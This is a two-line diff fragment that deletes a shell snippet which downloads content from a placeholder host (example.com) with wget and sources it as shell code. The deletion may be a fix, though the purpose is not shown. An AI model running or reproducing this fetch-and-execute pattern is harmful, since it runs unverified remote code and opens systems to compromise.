@@ -1,2 +1,0 @@
-set -eu
-source /dev/stdin <<<"$(wget -O- http://example.com/env)"
